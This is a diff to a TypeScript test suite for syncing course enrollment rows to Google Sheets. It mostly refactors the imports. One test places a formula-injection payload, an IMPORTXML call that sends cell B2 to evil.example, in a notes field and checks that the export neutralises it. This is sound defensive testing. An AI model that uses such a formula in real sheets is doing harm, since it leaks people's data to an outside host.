@@ -9,13 +9,7 @@ import { CSV_COLUMNS, EXPORT_COLUMNS } from "../../shared/admin";
 import { insertEnrollment } from "../helpers/admin-session";
 import { withFakeSheets } from "../helpers/sheets";
 import { withTestApp } from "../helpers/test-app";
-import {
-  insertJanuaryIntake,
-  insertPaidPayment,
-  insertPlace,
-  JANUARY_SUVA,
-  setPlaceState,
-} from "../helpers/training-rows";
+import * as trainingRows from "../helpers/training-rows";
 
 describe("the sheet sync updating rows", () => {
   const t = withTestApp();
@@ -29,7 +23,7 @@ describe("the sheet sync updating rows", () => {
     await db.delete(coursePayments);
     await db.delete(seats);
     await db.delete(enrollments);
-    intakeId = await insertJanuaryIntake(db);
+    intakeId = await trainingRows.insertJanuaryIntake(db);
     sheetCount += 1;
     spreadsheetId = `update-${sheetCount}`;
     sheets.fake.addSpreadsheet(spreadsheetId);
@@ -55,13 +49,18 @@ describe("the sheet sync updating rows", () => {
     const held = await insertEnrollment(db, { firstName: "Litia", email: "litia@example.fj", intakeId });
     await insertEnrollment(db, { firstName: "Anyday", email: "anyday@example.fj" });
     const waiting = await insertEnrollment(db, { firstName: "Jone", email: "jone@example.fj", intakeId });
-    const seatId = await insertPlace(db, {
+    const seatId = await trainingRows.insertPlace(db, {
       intakeId,
       enrollmentId: held,
       email: "litia@example.fj",
       state: "held",
     });
-    await insertPlace(db, { intakeId, enrollmentId: waiting, email: "jone@example.fj", state: "waitlisted" });
+    await trainingRows.insertPlace(db, {
+      intakeId,
+      enrollmentId: waiting,
+      email: "jone@example.fj",
+      state: "waitlisted",
+    });
     await expect(sync()).resolves.toEqual({ synced: 3 });
     sheets.fake.requests.length = 0;
     return { held, seatId };
@@ -71,9 +70,15 @@ describe("the sheet sync updating rows", () => {
     const { held, seatId } = await threeSynced();
     const before = sheet();
     expect(before[0]).toEqual([...EXPORT_COLUMNS]);
-    expect(training(before[1])).toEqual([JANUARY_SUVA, "Held", "FJD $1500.00", "FJD $0.00", "FJD $0.00"]);
+    expect(training(before[1])).toEqual([
+      trainingRows.JANUARY_SUVA,
+      "Held",
+      "FJD $1500.00",
+      "FJD $0.00",
+      "FJD $0.00",
+    ]);
 
-    await setPlaceState(t.database.db, seatId, "offered", new Date("2027-01-05T00:00:00Z"));
+    await trainingRows.setPlaceState(t.database.db, seatId, "offered", new Date("2027-01-05T00:00:00Z"));
     await expect(sync()).resolves.toEqual({ synced: 1 });
     expect(calls()).toEqual(["get", "batchUpdate"]);
     const update = sheets.fake.requests[1]?.body as { valueInputOption: string; data: { range: string }[] };
@@ -83,7 +88,7 @@ describe("the sheet sync updating rows", () => {
     expect(after).toHaveLength(before.length);
     expect(after[1]?.[0]).toBe(String(held));
     expect(training(after[1])).toEqual([
-      JANUARY_SUVA,
+      trainingRows.JANUARY_SUVA,
       "Offered until 5 January 2027",
       "FJD $1500.00",
       "FJD $0.00",
@@ -100,8 +105,8 @@ describe("the sheet sync updating rows", () => {
   it("rewrites the row when a payment or the processing changes, keeping formula text neutralised", async () => {
     const { held, seatId } = await threeSynced();
     const db = t.database.db;
-    await setPlaceState(db, seatId, "confirmed");
-    await insertPaidPayment(db, { seatId, enrollmentId: held, intakeId, amountCents: 50_000 });
+    await trainingRows.setPlaceState(db, seatId, "confirmed");
+    await trainingRows.insertPaidPayment(db, { seatId, enrollmentId: held, intakeId, amountCents: 50_000 });
     await db
       .update(enrollments)
       .set({ isProcessed: true, processingNotes: '=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")' })
@@ -112,7 +117,7 @@ describe("the sheet sync updating rows", () => {
     expect(row?.slice(11)).toEqual([
       "Yes",
       '\'=IMPORTXML(CONCAT("http://evil.example/?",B2),"//a")',
-      JANUARY_SUVA,
+      trainingRows.JANUARY_SUVA,
       "Confirmed",
       "FJD $1500.00",
       "FJD $500.00",
@@ -125,7 +130,7 @@ describe("the sheet sync updating rows", () => {
     const { held, seatId } = await threeSynced();
     const [header, , ...rest] = sheet();
     sheets.fake.setRows(spreadsheetId, [header ?? [], ...rest]);
-    await setPlaceState(t.database.db, seatId, "declined");
+    await trainingRows.setPlaceState(t.database.db, seatId, "declined");
     const late = await insertEnrollment(t.database.db, { firstName: "Late", email: "late@example.fj" });
     await expect(sync()).resolves.toEqual({ synced: 2 });
     const ids = sheet().map((row) => row[0]);
@@ -137,7 +142,7 @@ describe("the sheet sync updating rows", () => {
 
   it("keeps the hash unstored when Google refuses the update, so the retry rewrites the row once", async () => {
     const { seatId } = await threeSynced();
-    await setPlaceState(t.database.db, seatId, "cancelled");
+    await trainingRows.setPlaceState(t.database.db, seatId, "cancelled");
     sheets.fake.failUpdates(1, "500");
     const failure = await sync().catch((error: unknown) => error);
     expect(failure).toBeInstanceOf(SheetsError);
@@ -163,7 +168,7 @@ describe("the sheet sync updating rows", () => {
 
   it("rewrites each changed row once when two syncs run at the same time", async () => {
     const { seatId } = await threeSynced();
-    await setPlaceState(t.database.db, seatId, "confirmed");
+    await trainingRows.setPlaceState(t.database.db, seatId, "confirmed");
     const results = await Promise.all([sync(), sync()]);
     expect(results.map((result) => result.synced).sort()).toEqual([0, 1]);
     expect(calls().filter((call) => call === "batchUpdate")).toHaveLength(1);
